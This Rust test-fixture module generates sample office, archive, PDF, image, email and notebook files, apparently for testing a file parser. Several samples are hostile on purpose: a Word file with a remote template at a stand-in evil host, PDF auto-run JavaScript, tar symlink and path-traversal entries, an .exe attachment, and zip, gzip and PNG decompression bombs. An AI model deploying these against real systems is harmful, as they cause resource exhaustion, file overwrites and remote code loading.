//! Files of many kinds, made by code: whole ones, and ones that want to harm who reads them.

use std::io::{Cursor, Write as _};

use flate2::{Compress, Compression, FlushCompress, write::GzEncoder};
use zip::{ZipWriter, write::SimpleFileOptions};

/// A zip archive with these members.
pub fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in members {
        let options = SimpleFileOptions::default();
        writer.start_file(*name, options).expect("a name");
        writer.write_all(bytes).expect("memory");
    }
    writer.finish().expect("memory").into_inner()
}

const TYPES: (&str, &[u8]) = ("[Content_Types].xml", b"<Types/>");
const PACKAGE: &str = "http://schemas.openxmlformats.org/package/2006/relationships";
const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

fn relations(list: &[(&str, &str, &str, bool)]) -> String {
    let one = |(id, kind, target, external): &(&str, &str, &str, bool)| {
        let mode = if *external {
            " TargetMode='External'"
        } else {
            ""
        };
        format!("<Relationship Id='{id}' Type='{OFFICE}/{kind}' Target='{target}'{mode}/>")
    };
    let all = list.iter().map(one).collect::<Vec<_>>().concat();
    format!("<Relationships xmlns='{PACKAGE}'>{all}</Relationships>")
}

/// A Word document whose body is this XML.
pub fn docx(body: &str) -> Vec<u8> {
    let document = format!("<w:document><w:body>{body}</w:body></w:document>");
    let hyperlink = relations(&[
        ("r1", "hyperlink", "https://harmless.example/", true),
        (
            "r2",
            "attachedTemplate",
            "https://evil.example/t.dotm",
            true,
        ),
    ]);
    zip(&[
        TYPES,
        ("word/document.xml", document.as_bytes()),
        ("word/comments.xml", b"<w:comments><w:comment><w:p><w:r><w:t>why?</w:t></w:r></w:p></w:comment></w:comments>"),
        ("word/_rels/document.xml.rels", hyperlink.as_bytes()),
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
        ("docProps/core.xml", b"<cp><dc:title>Risks &amp; more</dc:title></cp>"),
    ])
}

/// A workbook with one sheet of these rows, as XML.
pub fn xlsx(rows: &str) -> Vec<u8> {
    let sheet = format!(
        "<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData>{rows}</sheetData></worksheet>"
    );
    let book = format!(
        "<workbook xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main' xmlns:r='{OFFICE}'><sheets><sheet name='Q3' sheetId='1' r:id='r1'/></sheets></workbook>"
    );
    let of_book = relations(&[
        ("r1", "worksheet", "worksheets/sheet1.xml", false),
        (
            "r2",
            "externalLink",
            "externalLinks/externalLink1.xml",
            false,
        ),
    ]);
    let link = relations(&[("r1", "externalLinkPath", "file:///server/other.xlsx", true)]);
    let root = relations(&[("r1", "officeDocument", "xl/workbook.xml", false)]);
    zip(&[
        TYPES,
        ("_rels/.rels", root.as_bytes()),
        ("xl/workbook.xml", book.as_bytes()),
        ("xl/_rels/workbook.xml.rels", of_book.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
        (
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            link.as_bytes(),
        ),
    ])
}

/// Two slides, the second one hidden and with notes, in an order that their names do not have.
pub fn pptx() -> Vec<u8> {
    let slide = |words: &str, attributes: &str| {
        format!("<p:sld{attributes}><a:p><a:r><a:t>{words}</a:t></a:r></a:p></p:sld>")
    };
    let main = "<p:presentation><p:sldIdLst><p:sldId id='1' r:id='b'/><p:sldId id='2' r:id='a'/></p:sldIdLst></p:presentation>";
    let of_main = relations(&[
        ("a", "slide", "slides/slide1.xml", false),
        ("b", "slide", "slides/slide2.xml", false),
    ]);
    let of_slide = relations(&[("n", "notesSlide", "../notesSlides/notesSlide1.xml", false)]);
    zip(&[
        TYPES,
        ("ppt/presentation.xml", main.as_bytes()),
        ("ppt/_rels/presentation.xml.rels", of_main.as_bytes()),
        (
            "ppt/slides/slide1.xml",
            slide("last words", " show='0'").as_bytes(),
        ),
        ("ppt/slides/_rels/slide1.xml.rels", of_slide.as_bytes()),
        ("ppt/slides/slide2.xml", slide("first words", "").as_bytes()),
        (
            "ppt/notesSlides/notesSlide1.xml",
            slide("say thanks", "").as_bytes(),
        ),
    ])
}

/// A PDF with these objects, numbered from 1; the first one is the catalogue.
pub fn pdf_of(objects: &[Vec<u8>], trailer: &str) -> Vec<u8> {
    let mut pdf = b"%PDF-1.7\n".to_vec();
    let mut places = Vec::new();
    for (at, object) in objects.iter().enumerate() {
        places.push(pdf.len());
        pdf.extend(format!("{} 0 obj\n", at + 1).bytes());
        pdf.extend(object);
        pdf.extend(b"\nendobj\n");
    }
    let table = pdf.len();
    pdf.extend(format!("xref\n0 {}\n0000000000 65535 f \n", places.len() + 1).bytes());
    for place in &places {
        pdf.extend(format!("{place:010} 00000 n \n").bytes());
    }
    let size = places.len() + 1;
    pdf.extend(
        format!("trailer\n<</Size {size} /Root 1 0 R {trailer}>>\nstartxref\n{table}\n%%EOF\n")
            .bytes(),
    );
    pdf
}

/// A stream with this dictionary and content.
pub fn stream(dictionary: &str, content: &[u8]) -> Vec<u8> {
    let mut object = format!("<<{dictionary} /Length {}>>\nstream\n", content.len()).into_bytes();
    object.extend(content);
    object.extend(b"\nendstream");
    object
}

/// A PDF with one page for each text, a title and a script.
pub fn pdf(pages: &[&str]) -> Vec<u8> {
    let kids: Vec<String> = (0..pages.len())
        .map(|page| format!("{} 0 R", 5 + page * 2))
        .collect();
    let mut objects: Vec<Vec<u8>> = vec![
        b"<</Type /Catalog /Pages 2 0 R /OpenAction <</S /JavaScript /JS (app.alert(1))>>>>"
            .to_vec(),
        format!(
            "<</Type /Pages /Kids [{}] /Count {} /MediaBox [0 0 300 300]>>",
            kids.join(" "),
            pages.len()
        )
        .into_bytes(),
        b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding>>".to_vec(),
        b"<</Title (A report)>>".to_vec(),
    ];
    for text in pages {
        let content = objects.len() + 2;
        objects.push(
            format!("<</Type /Page /Parent 2 0 R /Contents {content} 0 R /Resources <</Font <</F1 3 0 R>>>>>>")
                .into_bytes(),
        );
        objects.push(stream(
            "",
            format!("BT /F1 12 Tf 20 250 Td ({text}) Tj ET").as_bytes(),
        ));
    }
    pdf_of(&objects, "/Info 4 0 R")
}

/// A tar archive with a text, a link and a path that leads out.
pub fn tar() -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_gnu();
    header.set_size(5);
    builder
        .append_data(&mut header, "notes.txt", &b"hello"[..])
        .expect("memory");
    let mut header = tar::Header::new_gnu();
    header.set_entry_type(tar::EntryType::Symlink);
    header.set_size(0);
    builder
        .append_link(&mut header, "passwd", "/etc/passwd")
        .expect("memory");
    let mut header = tar::Header::new_gnu();
    header.as_mut_bytes()[..9].copy_from_slice(b"../../out");
    header.set_size(0);
    header.set_cksum();
    builder.append(&header, &b""[..]).expect("memory");
    builder.into_inner().expect("memory")
}

/// `bytes` packed with gzip.
pub fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).expect("memory");
    encoder.finish().expect("memory")
}

/// A picture of this size, in a few colours.
pub fn image(width: u32, height: u32, format: image::ImageFormat) -> Vec<u8> {
    let picture = image::RgbImage::from_fn(width, height, |x, y| {
        image::Rgb([u8::from(x > y) * 200, 90, 40])
    });
    let mut bytes = Cursor::new(Vec::new());
    picture.write_to(&mut bytes, format).expect("memory");
    bytes.into_inner()
}

/// One second of silence.
pub fn wav() -> Vec<u8> {
    let mut wav = b"RIFF\x64\x1f\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0\x40\x1f\0\0\x40\x1f\0\0\x01\0\x08\0data\x40\x1f\0\0".to_vec();
    wav.extend([0x80; 8000]);
    wav
}

/// A notebook with a picture among its outputs.
pub fn notebook(picture: &[u8]) -> Vec<u8> {
    use base64::Engine as _;
    let picture = base64::engine::general_purpose::STANDARD.encode(picture);
    serde_json::to_vec(&serde_json::json!({
        "cells": [
            { "cell_type": "markdown", "source": ["# Plan\n", "words"] },
            { "cell_type": "code", "source": "print(1)", "execution_count": 3, "outputs": [
                { "output_type": "stream", "name": "stdout", "text": ["one\n"] },
                { "output_type": "display_data", "data": { "image/png": picture, "text/html": "<b>bold</b><script>x</script>" } },
            ] },
            { "cell_type": "code", "source": "1/0", "execution_count": 2, "outputs": [
                { "output_type": "error", "ename": "ZeroDivisionError", "evalue": "division", "traceback": ["\u{1b}[31mTrace\u{1b}[0m"] },
            ] },
        ],
        "metadata": { "language_info": { "name": "python" } },
        "nbformat": 4, "nbformat_minor": 5,
    }))
    .expect("a notebook")
}

/// A message with an attached program.
pub fn email() -> Vec<u8> {
    b"From: =?utf-8?q?J=C3=BCrgen?= <j@x.example>\r\nTo: b@y.example\r\nSubject: Hello\r\n\
      Date: Mon, 21 Sep 2026 10:00:00 +0200\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n\
      --B\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Hi <b>there</b><script>x</script>\r\n\
      --B\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=a.exe\r\n\
      Content-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA\r\n--B--\r\n"
        .to_vec()
}

/// One whole file of each kind, by name.
pub fn all() -> Vec<(&'static str, Vec<u8>)> {
    let png = image(40, 20, image::ImageFormat::Png);
    vec![
        ("a.docx", docx("<w:p><w:r><w:t>Hello</w:t></w:r></w:p>")),
        (
            "a.xlsx",
            xlsx(
                "<row r='1'><c r='A1' t='inlineStr'><is><t>sum</t></is></c><c r='B1'><v>1.5</v></c></row>",
            ),
        ),
        ("a.pptx", pptx()),
        ("a.pdf", pdf(&["one", "two"])),
        (
            "a.zip",
            zip(&[("a/b.txt", b"packed words"), ("c.zip", &zip(&[]))]),
        ),
        ("a.tar", tar()),
        ("a.tar.gz", gzip(&tar())),
        ("log.gz", gzip(&b"ERROR in line\n".repeat(100))),
        ("a.jpg", image(40, 20, image::ImageFormat::Jpeg)),
        ("a.gif", image(40, 20, image::ImageFormat::Gif)),
        ("a.webp", image(40, 20, image::ImageFormat::WebP)),
        ("a.wav", wav()),
        ("a.ipynb", notebook(&png)),
        ("a.png", png),
        ("a.eml", email()),
        (
            "a.html",
            b"<!doctype html><title>T</title><p>Hi<script>1</script>".to_vec(),
        ),
    ]
}

/// A deflate stream that unpacks to `mebibytes` of zeros: one block over and over (RFC 1951 has no
/// limit on that).
pub fn zeros(mebibytes: usize, last: bool) -> Vec<u8> {
    let mut compress = Compress::new(Compression::best(), false);
    let mut block = Vec::with_capacity(1 << 16);
    compress
        .compress_vec(&vec![0; 1 << 20], &mut block, FlushCompress::Full)
        .expect("memory");
    let mut stream = block.repeat(mebibytes);
    if last {
        // An empty last block.
        stream.extend([0x03, 0x00]);
    }
    stream
}

/// A zip archive with one member that unpacks to `mebibytes` of zeros and states `stated` bytes.
pub fn zip_bomb(name: &str, mebibytes: usize, stated: u32) -> Vec<u8> {
    let part = name.starts_with("xl/") || name.starts_with("word/");
    let relations = relations(&[("r1", "officeDocument", name, false)]);
    // Programs find the main part of a document by relation.
    let plain = ("_rels/.rels", 0_u8, relations.into_bytes());
    let bomb = (name, 8, zeros(mebibytes, true));
    let (mut zip, mut directory, mut count) = (Vec::new(), Vec::new(), 0_u16);
    for (name, method, data) in part.then_some(plain).into_iter().chain([bomb]) {
        let packed = u32::try_from(data.len()).expect("a short stream");
        let size = if method == 0 { packed } else { stated };
        let name_length = u16::try_from(name.len()).expect("a short name");
        let at = u32::try_from(zip.len()).expect("a short file");
        let mut crc = flate2::Crc::new();
        crc.update(if method == 0 { &data } else { &[] });
        let crc = crc.sum();
        // The fields that a local header and the central directory share (APPNOTE, sections 4.3.7 and 4.3.12).
        let mut shared = vec![20, 0, 0, 0, method, 0, 0, 0, 0, 0];
        shared.extend(crc.to_le_bytes());
        shared.extend(packed.to_le_bytes());
        shared.extend(size.to_le_bytes());
        shared.extend(name_length.to_le_bytes());
        shared.extend([0, 0]);
        zip.extend(b"PK\x03\x04");
        zip.extend(&shared);
        zip.extend(name.bytes());
        zip.extend(data);
        directory.extend(b"PK\x01\x02\x14\x03");
        directory.extend(&shared);
        directory.extend([0; 6]);
        directory.extend(0x81a4_0000_u32.to_le_bytes());
        directory.extend(at.to_le_bytes());
        directory.extend(name.bytes());
        count += 1;
    }
    let start = u32::try_from(zip.len()).expect("a short file");
    let length = u32::try_from(directory.len()).expect("a short file");
    zip.extend(directory);
    zip.extend(b"PK\x05\x06\0\0\0\0");
    zip.extend(count.to_le_bytes());
    zip.extend(count.to_le_bytes());
    zip.extend(length.to_le_bytes());
    zip.extend(start.to_le_bytes());
    zip.extend([0, 0]);
    zip
}

/// A gzip file that unpacks to `mebibytes` of zeros.
pub fn gzip_bomb(mebibytes: usize) -> Vec<u8> {
    let mut gzip = b"\x1f\x8b\x08\0\0\0\0\0\0\xff".to_vec();
    gzip.extend(zeros(mebibytes, true));
    gzip.extend([0; 8]);
    gzip
}

/// A PNG of one colour and one bit for each pixel, whose data unpack to `mebibytes`.
pub fn png_bomb(width: u32, height: u32, mebibytes: usize) -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut header = width.to_be_bytes().to_vec();
    header.extend(height.to_be_bytes());
    header.extend([1, 0, 0, 0, 0]);
    let mut data = vec![0x78, 0x9c];
    data.extend(zeros(mebibytes, true));
    data.extend([0; 4]);
    for (kind, body) in [(b"IHDR", header), (b"IDAT", data), (b"IEND", Vec::new())] {
        png.extend(
            u32::try_from(body.len())
                .expect("a short chunk")
                .to_be_bytes(),
        );
        let mut checked = kind.to_vec();
        checked.extend(body);
        let mut crc = flate2::Crc::new();
        crc.update(&checked);
        png.extend(checked);
        png.extend(crc.sum().to_be_bytes());
    }
    png
}
